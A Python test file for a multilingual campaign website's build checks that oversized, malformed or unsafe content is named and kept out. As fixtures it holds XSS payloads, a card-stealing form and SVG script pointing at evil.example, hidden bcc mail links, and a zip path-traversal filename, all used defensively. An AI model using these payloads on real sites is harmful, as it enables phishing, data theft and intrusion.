    subject = "Освободите " + "задержанных " * 16
    text = minimal_files()["actions/free-them.md"].replace("Targets: prosecutor-general", f"Targets: {ids}")
    text = text.replace("Subject: Compensate the detainees", "Subject: " + subject.strip()[:200])
    assert subject.strip()[:200] in text
    site = build(tmp_path, minimal_files() | {"data/targets.toml": targets, "actions/free-them.md": text})
    page = site.text("actions/free-them/index.html")
    buttons = re.findall(r'class="button send-[^"]*" href="(mailto:[^"]*)"', page)
    assert buttons and all(len(html.unescape(href)) <= 1800 for href in buttons), [len(b) for b in buttons]
    assert any("official049@example.org" in href and "subject=" not in href for href in buttons)


def test_a_data_file_that_is_not_toml_is_named_with_its_line(tmp_path):
    files = minimal_files() | {"data/targets.toml": TARGETS_TOML + "\nbroken = ]\n[other]\n"}
    site = build(tmp_path, files)
    line = TARGETS_TOML.count("\n") + 2
    assert messages(site, f"targets.toml:{line}: field '(file)'", "is not valid TOML", "Fix the syntax at that line")
    assert_strict_fails(tmp_path, files)


@pytest.mark.parametrize("field, value", [
    ("_Content", "<p>RAW</p><img src=x onerror=alert(2)>"),  # Pelican's own attribute: skipped the sanitiser
    ("Override_Save_As", "index.html"),  # wrote over the home page
    ("Default_Status", "draft"),  # made a draft: a traceback for the whole build
    ("Toc", "<script>alert(1)</script>"),  # what the reader sets itself
    ("Timezone", "Nowhere/City"),  # "Could not process", without field or fix
    ("Read_Problems", "x"),
])
def test_a_field_the_site_does_not_know_is_named_and_never_reaches_pelican(tmp_path, field, value):
    files = with_ru_header_lines(f"{field}: {value}")
    site = build(tmp_path, files)
    assert messages(site, "actions/free-them.ru.md:4", f"field '{field.lower()}'", "is not a field of this site, so "
                    "the line was ignored", "Check its spelling against docs/authoring.md")
    page = site.text("ru/actions/free-them/index.html")
    assert "RAW" not in page and "onerror" not in page and "alert(" not in page
    assert "Освободите их" not in site.text("index.html") and not site.exists("drafts")
    assert_strict_fails(tmp_path, files)


@pytest.mark.parametrize("field, value", [("State", "x" * 1_000_000), ("Deadline", "9" * 500_000),
                                          ("Outcome-Date", "y" * 100_000)])
def test_a_huge_value_is_quoted_by_its_start_with_its_line(tmp_path, field, value):
    import re

    text = re.sub(rf"(?m)^{field}: .*$", lambda _: f"{field}: {value}",
                  action_md(state="closed", extra="Outcome-Date: 2026-05-01"), count=1)
    site = build(tmp_path, minimal_files() | {"actions/free-them.md": text})
    said = messages(site, "actions/free-them.md:", f"field '{field.lower()}'", "is not a")
    assert said and all(len(message) < 300 for message in site.report.errors + site.report.warnings)


def test_thousands_of_unknown_fields_are_named_a_few_at_a_time(tmp_path):
    header = "".join(f"x{i}: v\n" for i in range(2000))
    files = minimal_files() | {"pages/about.md": f"Title: About\n{header}\nAbout us.\n"}
    site = build(tmp_path, files)
    assert len(messages(site, "pages/about.md", "is not a field of this site")) == 5
    assert messages(site, "pages/about.md", "has 1995 more fields this site does not know")
    assert len(site.report.warnings) < 10


@pytest.mark.parametrize("field, first, second", [("Outcome", "They were released", "four hours later."),
                                                  ("Title", "Free them", "all of them")])
def test_a_continuation_line_goes_on_the_same_value_never_a_list_or_nothing(tmp_path, field, first, second):
    import re

    text = re.sub(rf"(?m)^{field}: .*$", lambda _: f"{field}: {first}\n    {second}", action_md(state="closed"), count=1)
    site = build(tmp_path, minimal_files() | {"actions/free-them.md": text})
    page = site.text("actions/free-them/index.html")
    assert "[&#39;" not in page and "['" not in page
    assert first in page and second in page


@pytest.mark.parametrize("line", ["Required-Languages: ru, " + "z" * 300_000, "People: dmitry-tikhonov,," + "z" * 300_000,
                                  "Briefing: " + "z" * 300_000])
def test_every_message_quotes_a_huge_value_by_its_start(tmp_path, line):
    import re

    field = line.split(":")[0]
    text = action_md(extra=line if field == "Required-Languages" else "")
    if field != "Required-Languages":
        text = re.sub(rf"(?m)^{field}: .*$", lambda _: line, text, count=1)
    site = build(tmp_path, minimal_files() | {"actions/free-them.md": text})
    logged = site.report.errors + site.report.warnings
    assert messages(site, "actions/free-them.md", f"field '{field.lower()}'")
    assert all(len(message) < 400 for message in logged)


def test_a_data_text_for_a_variant_of_a_site_language_is_named(tmp_path):
    people = PEOPLE_TOML.replace('ru = "Дмитрий Тихонов"', '"ru-RU" = "Дмитрий Тихонов"')
    site = build(tmp_path, minimal_files() | {"data/people.toml": people})
    assert messages(site, "people.toml", "field 'dmitry-tikhonov.name'", "has a text for 'ru-RU'")


@pytest.mark.parametrize("field, value, limit", [
    ("Title", "Ж" * 100_000, "is 100,000 characters long; the limit is 200"),
    ("Summary", "слово " * 170_000, "is 1,019,999 characters long; the limit is 600"),
    ("Outcome", "Ж" * 5000, "is 5,000 characters long; the limit is 1,200"),
    ("Image-Alt", "Ж" * 1000, "is 1,000 characters long; the limit is 300"),
])
def test_a_translation_with_a_field_longer_than_a_page_can_carry_is_left_out(tmp_path, field, value, limit):
    # A one-megabyte Summary made a 5.6-megabyte page, a 100,000-letter Title a 600-kilobyte one.
    original = action_md(state="closed") if field == "Outcome" else action_md()
    translation = action_md(lang="ru", title="Освободите их", state="closed" if field == "Outcome" else "open")
    lines = translation.split("\n")
    at = next((i for i, text in enumerate(lines) if text.startswith(field + ":")), lines.index(""))
    lines[at:at + (lines[at] != "")] = [f"{field}: {value}"]
    line = at + 1
    files = minimal_files() | {"actions/free-them.md": original, "actions/free-them.ru.md": "\n".join(lines)}
    site = build(tmp_path, files)
    assert messages(site, f"actions/free-them.ru.md:{line}", f"field '{field.lower()}'", limit)
    assert not site.exists("ru/actions/free-them/index.html")
    assert site.exists("actions/free-them/index.html")
    assert max(path.stat().st_size for path in site.output.rglob("*.html")) < 50_000
    assert_strict_fails(tmp_path, files)


def test_a_letter_subject_longer_than_a_line_is_named_and_copied_nowhere(tmp_path):
    # The Russian subject reached the English page too, in the copy for an official who reads Russian.
    text = action_md(lang="ru", title="Освободите их", letter=False) + "\n::: letter\nSubject: " + "Ж" * 200_000 + "\n\nТекст.\n:::\n"
    files = minimal_files() | {"actions/free-them.ru.md": text}
    site = build(tmp_path, files)
    assert messages(site, "actions/free-them.ru.md", "field 'letter'", "has a subject 200,000 characters long; the limit is 200")
    assert all("ЖЖЖ" not in site.text(page) for page in ("actions/free-them/index.html", "ru/actions/free-them/index.html"))
    assert_strict_fails(tmp_path, files)


@pytest.mark.parametrize("data_file, toml, original, field, limit", [
    ("people.toml", PEOPLE_TOML, 'ru = "Правозащитник"', "dmitry-tikhonov.description.ru", 600),
    ("targets.toml", TARGETS_TOML, 'ru = "Генеральная прокуратура"', "prosecutor-general.name.ru", 200),
    ("targets.toml", TARGETS_TOML, 'ru = "Уважаемый господин Генеральный прокурор!"', "prosecutor-general.salutation.ru", 200),
])
def test_a_data_translation_longer_than_a_page_can_carry_falls_back_to_the_default_language(tmp_path, data_file, toml,
                                                                                           original, field, limit):
    files = minimal_files() | {f"data/{data_file}": toml.replace(original, 'ru = "' + "Ж" * 200_000 + '"')}
    site = build(tmp_path, files)
    assert messages(site, data_file, f"field '{field}'", f"is 200,000 characters long; the limit is {limit}",
                    "so pages in 'ru' show the 'en' text instead")
    page = site.text("ru/actions/free-them/index.html")
    assert "ЖЖЖ" not in page and len(page) < 50_000
    assert_strict_fails(tmp_path, files)


def test_a_default_language_data_text_longer_than_a_page_can_carry_leaves_its_entry_out(tmp_path):
    files = minimal_files() | {"data/people.toml": PEOPLE_TOML.replace('en = "Human rights defender"',
                                                                       'en = "' + "x" * 601 + '"')}
    site = build(tmp_path, files)
    assert messages(site, "people.toml", "field 'dmitry-tikhonov.description.en'", "is 601 characters long; the limit is 600")
    assert not site.exists("actions/free-them/index.html")  # it names a person the data no longer has
    assert all("x" * 601 not in path.read_text(encoding="utf-8") for path in site.output.rglob("*.html"))
    assert_strict_fails(tmp_path, files)


def test_a_date_before_1970_is_named_and_never_reaches_a_feed(tmp_path):
    # Python dates 0001-01-01 in Almaty at +05:07:48, local mean time, which no Atom reader can parse.
    files = minimal_files() | {
        "actions/free-them.md": action_md().replace("Date: 2019-03-05", "Date: 0001-01-01"),
        "actions/free-them.ru.md": action_md(lang="ru", title="Освободите их").replace("Date: 2019-03-05\n", ""),
    }
    site = build(tmp_path, files)
    assert messages(site, "actions/free-them.md:3", "field 'date'", "0001-01-01 is before 1970-01-01",
                    "Write the day the document was first published")
    assert not site.exists("actions/free-them/index.html")
    feeds = [path.read_text(encoding="utf-8") for path in site.output.rglob("atom.xml")]
    assert feeds and not any("0001-01-01" in feed for feed in feeds)


@pytest.mark.parametrize("email", ["a" * 500_000 + "@example.org", "p@" + "a." * 250_000 + "org"])
def test_a_target_address_longer_than_an_address_can_be_leaves_its_entry_out(tmp_path, email):
    # A 500,000-letter address went into every letter and mail link: a 2.5 MB page and a 500 KB log line.
    files = minimal_files() | {"data/targets.toml": TARGETS_TOML.replace('"prosecutor@example.org"', f'"{email}"')}
    site = build(tmp_path, files)
    assert messages(site, "targets.toml", "field 'prosecutor-general.email'", "an address has at most 254")
    assert max(path.stat().st_size for path in site.output.rglob("*.html")) < 50_000
    assert max(map(len, site.report.errors + site.report.warnings)) < 1000
    assert_strict_fails(tmp_path, files)


def test_a_petition_address_longer_than_an_address_can_be_is_refused(tmp_path):
    # A one-megabyte petition address made a one-megabyte page in each language.
    files = minimal_files() | {"actions/free-them.md": action_md(extra="Petition: https://example.org/" + "a" * 1_000_000)}
    site = build(tmp_path, files)
    assert messages(site, "actions/free-them.md", "field 'petition'", "is 1,000,020 characters long; the limit is 2,000")
    assert max(path.stat().st_size for path in site.output.rglob("*.html")) < 50_000
    assert max(map(len, site.report.errors + site.report.warnings)) < 1000
    assert_strict_fails(tmp_path, files)


@pytest.mark.parametrize("summary", [
    " ".join(["x"] * 140) + "\n    *[x]: " + "y" * 300,  # an abbreviation: its title on every use
    "[a]" * 97 + "\n    [a]: https://example.org/" + "a" * 280,  # a reference link: its address on every use
])
def test_a_summary_within_its_limit_that_markdown_multiplies_is_left_out(tmp_path, summary):
    # 600 characters made 45 KB of HTML on the action page, the home page, the lists and the feed.
    original = action_md().replace("Summary: Hundreds were detained for protesting peacefully.", "Summary: " + summary)
    files = minimal_files() | {"actions/free-them.md": original}
    site = build(tmp_path, files)
    assert messages(site, "actions/free-them.md:6", "field 'summary'", "characters of HTML; the limit is 6,000")
    assert max(path.stat().st_size for path in site.output.rglob("*.html")) < 15_000
    assert_strict_fails(tmp_path, files)


def test_a_summary_of_escaped_characters_and_addresses_is_kept(tmp_path):
    files = minimal_files() | {"actions/free-them.ru.md": action_md(lang="ru", title="Освободите их").replace(
        "Summary: Hundreds were detained for protesting peacefully.", "Summary: " + "<" * 300 + "<a@b.cd>" * 37)}
    site = build(tmp_path, files)
    assert not messages(site, "field 'summary'", "characters of HTML")
    assert site.exists("ru/actions/free-them/index.html")


@pytest.mark.parametrize("field", ["Translator", "Reviewer", "Translation-Status", "Source-Fingerprint", "Lang"])
def test_a_huge_translation_header_value_reaches_the_status_page_and_the_log_by_its_start(tmp_path, field):
    # Each reached translation-status/index.html whole (400-600 KB), and the messages quoted it whole.
    translation = action_md(lang="ru", title="Освободите их")
    if field == "Lang":
        translation = translation.replace("Lang: ru", "Lang: " + "r" * 200_000)
    else:
        translation = translation.replace("Lang: ru", f"Lang: ru\n{field}: " + "Ж" * 200_000)
    files = minimal_files() | {"actions/free-them.ru.md": translation}
    site = build(tmp_path, files)
    assert site.path("translation-status/index.html").stat().st_size < 50_000
    assert max(map(len, site.report.problems), default=0) < 1000


def test_many_unknown_required_languages_are_named_by_a_few_then_counted(tmp_path):
    # 20,000 codes made 20,000 errors in the log and a 4.5 MB status page.
    codes = ", ".join(f"q{i}" for i in range(2000))
    files = minimal_files() | {"actions/free-them.md": action_md(extra="Required-Languages: " + codes)}
    site = build(tmp_path, files)
    assert messages(site, "field 'required-languages'", "1995 more languages are not configured")
    assert len(site.report.problems) < 20
    assert site.path("translation-status/index.html").stat().st_size < 50_000
    assert_strict_fails(tmp_path, files)


def test_a_list_field_of_many_ids_is_checked_in_linear_time():
    # Each item was counted by a walk of the whole list: 20,000 ids took 10 s, on every build.
    import time

    from campaign_content.model import list_problems

    started = time.monotonic()
    problems = list_problems("people", ", ".join(f"p{i}" for i in range(40_000)) + ", p1")
    assert time.monotonic() - started < 2
    assert [problem.message for problem in problems] == ["lists p1 more than once; each is used once"]


def test_thousands_of_header_lines_without_a_colon_are_named_by_a_few_then_counted(tmp_path):
    # Each line was an error of its own: a value that lost its indentation over 2,000 lines made 2,000.
    text = action_md().replace("Briefing: background", "Briefing: background\n" + "a line with no colon\n" * 2000
                               + "Title: again\n" * 2000)
    site = build(tmp_path, minimal_files() | {"actions/free-them.md": text})
    logged = [m for m in site.report.errors + site.report.warnings if "actions/free-them.md" in m]
    assert len(messages(site, "actions/free-them.md:10", "the header line 'a line with no colon' has no colon")) == 1
    assert messages(site, "actions/free-them.md", "1995 more header lines have no colon")
    assert messages(site, "actions/free-them.md:2010", "field 'title'", "is written twice (lines 1 and 2010)")
    assert messages(site, "actions/free-them.md", "1995 more fields are written twice")
    assert len(logged) < 20


def test_a_data_id_too_long_to_write_is_named_by_its_start(tmp_path):
    people = PEOPLE_TOML + "\n[" + "a" * 300_000 + ']\nname = "N"\ndescription = "D"\n'
    site = build(tmp_path, minimal_files() | {"data/people.toml": people})
    assert messages(site, "people.toml", "field 'aaaa", "is 300,000 characters long; an id has at most 80")
    assert all(len(m) < 1000 for m in site.report.errors + site.report.warnings)
    assert site.exists("actions/free-them/index.html")  # the other entries stand


def test_a_page_without_a_summary_whose_first_word_is_enormous_shows_no_summary(tmp_path):
    # The summary cut from the text's first 50 words took a 20,000-letter first word whole, onto the home page.
    files = minimal_files() | {"pages/about.ru.md": "Title: О нас\nLang: ru\n\n" + "Ж" * 15_000 + " и другие слова.\n"}
    site = build(tmp_path, files)
    assert messages(site, "pages/about.ru.md", "field 'summary'", "is missing, and the text's first words make",
                    "Add a line 'Summary: …'")
    for page in ("ru/index.html", "ru/about/index.html"):
        head = site.soup(page).head
        assert "ЖЖЖЖ" not in str(head), page
    assert "ЖЖЖЖ" not in site.text("ru/index.html")
    assert_strict_fails(tmp_path, files)


def test_a_link_to_another_page_in_a_summary_is_named_and_left_out(tmp_path):
    # Pelican made it into an address once, from the site's root: on the lists and the page itself it led nowhere.
    text = action_md().replace("Summary: Hundreds were detained for protesting peacefully.",
                               "Summary: Hundreds were detained; see [the background]({filename}/briefings/background.md).")
    files = minimal_files() | {"actions/free-them.md": text}
    site = build(tmp_path, files)
    assert messages(site, "actions/free-them.md", "field 'summary'", "links to {filename}/briefings/background.md",
                    "Put the link in the text below the summary")
    for page in ("index.html", "actions/index.html", "actions/free-them/index.html"):
        assert "{filename}" not in site.text(page) and 'href="briefings/background/"' not in site.text(page), page
    assert_strict_fails(tmp_path, files)


@pytest.mark.parametrize("name, text", [
    ("images/pay.html", "<form action='https://evil.example/'><input name=card></form><script>steal()</script>"),
    ("images/chart.svg", '<svg xmlns="http://www.w3.org/2000/svg" onload="steal()"><script>steal()</script></svg>'),
    ("images/app.js", "steal()"),
    ("images/look.css", "body{background:url(https://evil.example/)}"),
])
def test_a_page_or_script_under_images_is_never_served_from_the_site(tmp_path, name, text):
    # Pelican copied everything under STATIC_PATHS: a page at /images/pay.html ran its script on the campaign's
    # own address, where a supporter trusts what asks for their card.
    files = minimal_files() | {name: text}
    site = build(tmp_path, files)
    assert messages(site, name, "is not an image the site publishes", "Export it as PNG or JPEG")
    assert not (site.output / name).exists()
    assert site.exists("actions/free-them/index.html")
    assert_strict_fails(tmp_path, files)


@pytest.mark.parametrize("name", ["images/team.final.jpg", "images/chart.svg.png", "images/protest.ru.jpg"])
def test_an_image_whose_name_reads_as_a_language_does_not_stop_the_build(tmp_path, name):
    # FILENAME_METADATA read "fin", "svg" or "ru" out of the name as its language, and Pelican has no
    # STATIC_LANG_URL or STATIC_LANG_SAVE_AS: the whole build stopped on a KeyError.
    (tmp_path / "content" / "images").mkdir(parents=True)
    from PIL import Image

    Image.open(io.BytesIO(photo(50, 50))).save(tmp_path / "content" / name, "PNG" if name.endswith(".png") else "JPEG")
    files = minimal_files()
    files["pages/about.md"] = f"Title: About\n\n![A team]({{static}}/{name})\n"
    site = build(tmp_path, files)
    assert not site.report.problems, site.report.problems
    assert site.exists(name) and f'src="../{name}"' in site.text("about/index.html")


def test_a_link_to_a_file_the_site_does_not_publish_is_named_where_it_is_written(tmp_path):
    # The SVG itself is refused (above); the link to it stayed in the page and led nowhere, named by nothing.
    files = minimal_files() | {"images/chart.svg": "<svg xmlns='http://www.w3.org/2000/svg'/>",
                               "pages/about.md": "Title: About\n\nSee ![the chart]({static}/images/chart.svg).\n"}
    site = build(tmp_path, files)
    assert messages(site, "pages/about.md", "links to {static}/images/chart.svg, which the site does not publish",
                    "Link to an image")
    assert "chart.svg" not in site.text("about/index.html")
    assert_strict_fails(tmp_path, files)


def test_a_volunteers_text_file_is_never_served_as_a_page(tmp_path):
    # CAMPAIGN_CONTENT['text_files'] publishes the team's robots.txt as it is; its bytes are a volunteer's.
    script = "User-agent: *\n<script>alert(document.domain)</script>\n"
    settings = {"STATIC_PATHS": ["images", "extra"],
                "EXTRA_PATH_METADATA": {"extra/robots.txt": {"path": "robots.txt"},
                                        "extra/rules.txt": {"path": "rules/index.html"}},
                "CAMPAIGN_CONTENT": {"data_path": "data", "today": "2024-06-01",
                                     "text_files": ["extra/robots.txt", "extra/rules.txt"]}}
    files = minimal_files() | {"extra/robots.txt": script, "extra/rules.txt": script, "extra/x.html": script}
    site = build_site(tmp_path, files, settings)
    assert (site.output / "robots.txt").read_text(encoding="utf-8") == script  # text, as the team named it
    assert messages(site, "extra/rules.txt", "rules/index.html") and messages(site, "extra/x.html", "not published")
    served = [path for path in site.output.rglob("*") if path.is_file() and path.suffix in (".html", ".xml")]
    assert not [path for path in served if "alert(document.domain)" in path.read_text(encoding="utf-8")]


def test_a_right_to_left_override_left_open_is_closed_where_its_text_ends(tmp_path):
    # An unclosed U+202E (right-to-left override) in a Title reversed the " – site name" after it in the
    # tab's title, and one in a target's name the ", Prosecutor General; …" after it on the "Write to:" line.
    # Each span is closed (U+202C) where its line or its data text ends, and named; a closed one is kept as is.
    action = action_md(title="Free them \u202eall", body="Text \u2067عربي\u2069 with an isolate closed.")
    targets = TARGETS_TOML.replace('en = "Office of the Prosecutor General"', 'en = "Office of the \u202eProsecutor"')
    files = minimal_files() | {"actions/free-them.md": action, "data/targets.toml": targets}
    site = build(tmp_path, files)
    page = site.soup("actions/free-them/index.html")
    assert page.h1.get_text() == "Free them \u202eall\u202c"
    assert page.title.get_text().startswith("Free them \u202eall\u202c – ")
    assert "<strong>Office of the \u202eProsecutor\u202c</strong>, Prosecutor General" in site.text(
        "actions/free-them/index.html")
    assert "Text \u2067عربي\u2069 with" in site.text("actions/free-them/index.html")  # closed already: untouched
    assert messages(site, "actions/free-them.md:1", "(U+202E)", "closed at the end of the line")
    assert messages(site, "targets.toml", "prosecutor-general.name.en", "(U+202E)")
    assert not messages(site, "U+2067")
    assert_strict_fails(tmp_path, files)


def test_a_translation_s_mail_link_to_an_address_its_original_never_names_is_a_warning(tmp_path):
    # Supporters' mail went wherever a translation's links said: a translator could add '?bcc=' or change an
    # address, and the team merging the pull request may not read the language.
    original = action_md(body="Write to [the press office](mailto:Press@Campaign.example).")
    translation = action_md(lang="ru", title="Освободите их", body=(
        "Пишите [в пресс-службу](mailto:press@campaign.example), [прокурору](mailto:prosecutor@example.org"
        "?bcc=spy@evil.example&subject=x) и <other@evil.example>."))
    files = minimal_files() | {"actions/free-them.md": original, "actions/free-them.ru.md": translation}
    site = build(tmp_path, files)
    found = messages(site, "actions/free-them.ru.md", "has a mail link to other@evil.example, spy@evil.example",
                     "actions/free-them.md does not link to")
    assert len(found) == 1, site.report.warnings
    assert not messages(site, "actions/free-them.md:", "mail link")  # the original decides
    assert_strict_fails(tmp_path, files)
    same = translation.replace("?bcc=spy@evil.example&subject=x", "").replace(" и <other@evil.example>", "")
    build_site(tmp_path / "same", files | {"actions/free-them.ru.md": same}, strict=True)


@pytest.mark.parametrize("name, expected", [
    ("pages/about.ru.MD", ("is not read as a document: only a name ending in '.md' in lower case is",
                           "Rename it to 'about.ru.md'")),
    ("pages/about.ru.md.txt", ("is not read as a document", "Rename it to 'about.ru.md'")),
    ("about.ru.md", ("is not in actions/, briefings/, pages/, so it is not read as a document",
                     "Move it into the folder that holds its original (about.md)")),
])
def test_a_translation_saved_under_a_name_or_in_a_folder_nothing_reads_is_named(tmp_path, name, expected):
    # A translator saving in the browser got the file ignored without a word: the status and the pull
    # request's checks still said the translation was missing.
    files = minimal_files() | {name: "Title: О нас\nLang: ru\n\nТекст.\n", "README.md": "Notes for the team.\n"}
    site = build(tmp_path, files)
    assert messages(site, name, *expected)
    assert not messages(site, "README.md")
    assert_strict_fails(tmp_path, files)


def test_an_image_with_a_backslash_in_its_name_is_named_and_stays_out_of_the_site_and_its_zip(tmp_path):
    # The mirror bundle zips output/ as it is: 'images/..\..\..\evil.jpg' became the zip entry
    # 'campaign-site/images/..\..\..\evil.jpg', which unzippers that take '\' for a folder separator (as on
    # Windows) write outside the folder the bundle is unpacked into.
    from site_checks.bundle import write_zip

    files = with_files()
    files["images/..\\..\\..\\evil.jpg"] = photo(40, 30)
    site = build(tmp_path, files)
    assert messages(site, "images/..\\..\\..\\evil.jpg", "backslash")
    write_zip(site.output, tmp_path / "dist" / "site.zip", "campaign-site")
    import zipfile
    names = zipfile.ZipFile(tmp_path / "dist" / "site.zip").namelist()
    assert names and not [name for name in names if "\\" in name]
    assert_strict_fails(tmp_path, files)
